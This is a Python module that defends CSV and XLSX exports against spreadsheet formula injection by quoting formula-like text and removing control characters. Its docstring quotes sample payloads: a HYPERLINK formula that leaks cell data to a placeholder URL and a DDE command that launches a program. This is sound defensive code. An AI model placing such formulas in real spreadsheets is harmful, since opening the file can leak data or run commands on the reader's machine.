"""Cells that are safe to open in a spreadsheet: one function for every CSV and XLSX writer.

A spreadsheet runs a cell as a formula when its text begins with ``=``, ``+``, ``-`` or ``@``
(and, through DDE, tab and carriage return), so free text, participant codes or cohort names
such as ``=HYPERLINK("http://x?"&A1)`` or ``cmd|' /C calc'!A0`` would run on the reader's
machine. OWASP's advice (CSV Injection, owasp.org/www-community/attacks/CSV_Injection) is
followed: such text gets a leading single quote, which spreadsheets show as text. Only text is
changed: numbers, including negative ones, stay numbers. Control characters (a vertical tab
from Word's soft line break, NUL …) are not valid in XLSX at all; line-like ones become a line
break and the others are removed. A carriage return becomes a line break too: unquoted in a
CSV it would end the row, and the rest of the text would start a new cell.
"""

from __future__ import annotations

import datetime as _dt
import math
import re
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["FORMULA_START", "safe_cell", "safe_frame", "safe_sheet_name", "safe_text"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""Text starting with one of these is neutralised (OWASP CSV Injection)."""

_LINE_LIKE = re.compile(r"[\x0b\x0c\x85\u2028\u2029]")
_CONTROL = re.compile(r"[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f\ufffe\uffff]")


def safe_text(text: str) -> str:
    """``text`` without control characters and, if it could start a formula, with a leading quote.

    Examples
    --------
    >>> safe_text('=HYPERLINK("http://x", "click")')
    '\\'=HYPERLINK("http://x", "click")'
    >>> safe_text("line one\\x0bline two\\x00")
    'line one\\nline two'
    >>> safe_text("-1+2"), safe_text("fine")
    ("'-1+2", 'fine')
    """
    clean = _CONTROL.sub("", _LINE_LIKE.sub("\n", text))
    lead = "'" if clean.startswith(FORMULA_START) else ""
    return lead + clean.replace("\r\n", "\n").replace("\r", "\n")


def safe_cell(value: Any) -> Any:
    """A value ready for a CSV or XLSX cell: text neutralised, everything else a plain value.

    Parameters
    ----------
    value
        Anything a table may hold.

    Returns
    -------
    str, int, float, bool, datetime or None
        Text through :func:`safe_text`; missing values (None, NaN, NA, NaT) as None; numpy
        scalars as Python numbers; dates and times as they are (time-zone aware ones as ISO
        text); anything else as safe text.

    Examples
    --------
    >>> safe_cell("@SUM(A1:A9)"), safe_cell(-1.5), safe_cell(np.int64(-3)), safe_cell(float("nan"))
    ("'@SUM(A1:A9)", -1.5, -3, None)
    """
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, (bool, np.bool_)):
        return bool(value)
    if isinstance(value, (int, np.integer)):
        return int(value)
    if isinstance(value, (float, np.floating)):
        return None if math.isnan(float(value)) else float(value)
    if isinstance(value, pd.Timestamp):
        return value.isoformat() if value.tzinfo is not None else value.to_pydatetime()
    if isinstance(value, (_dt.datetime, _dt.date, _dt.time)):
        return value.isoformat() if getattr(value, "tzinfo", None) is not None else value
    return safe_text(str(value))


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names went through :func:`safe_cell`.

    Numeric columns are left untouched (so negative numbers stay numbers). Not modified in place.

    Examples
    --------
    >>> df = pd.DataFrame({"=cmd": ["=1+1", "ok"], "x": [-1, 2]})
    >>> out = safe_frame(df)
    >>> list(out.columns), out["'=cmd"].tolist(), out["x"].tolist()
    (["'=cmd", 'x'], ["'=1+1", 'ok'], [-1, 2])
    """
    out = frame.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        if not (pd.api.types.is_numeric_dtype(col) or pd.api.types.is_bool_dtype(col)
                or pd.api.types.is_datetime64_any_dtype(col)):
            values = pd.Series(_safe_values(col), index=out.index, dtype=object)
            out.isetitem(j, values)  # type: ignore[arg-type]  # a Series keeps the object dtype
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _safe_values(col: pd.Series) -> np.ndarray:
    """:func:`safe_cell` of every value of a text-like column, a whole column at a time when it
    holds text only (pyarrow kernels; categories once per category), else cell by cell."""
    from ._safe_arrow import safe_text_array, text_array

    if isinstance(col.dtype, pd.CategoricalDtype):
        cats = _safe_values(pd.Series(col.cat.categories, dtype=col.cat.categories.dtype))
        codes = col.cat.codes.to_numpy()
        out = np.full(len(col), None, dtype=object)
        out[codes >= 0] = cats[codes[codes >= 0]]
        return out
    arr = text_array(col)
    if arr is None:
        out = np.empty(len(col), dtype=object)
        out[:] = [safe_cell(v) for v in col.tolist()]
        return out
    return safe_text_array(arr).to_numpy(zero_copy_only=False)


_SHEET_BAD = re.compile(r"[\[\]:*?/\\\x00-\x1f]")


def safe_sheet_name(name: str, used: set[str]) -> str:
    """A valid, unused XLSX sheet name (≤ 31 characters, none of ``[]:*?/\\``) for ``name``.

    Examples
    --------
    >>> used = set()
    >>> safe_sheet_name("a/b", used), safe_sheet_name("a/b", used), safe_sheet_name("'x", used)
    ('a_b', 'a_b_2', 'x')
    """
    base = _SHEET_BAD.sub("_", str(name)).strip("'") or "sheet"
    sheet = base[:31]
    i = 2
    while sheet.casefold() in {u.casefold() for u in used}:
        suffix = f"_{i}"
        sheet = base[: 31 - len(suffix)] + suffix
        i += 1
    used.add(sheet)
    return sheet
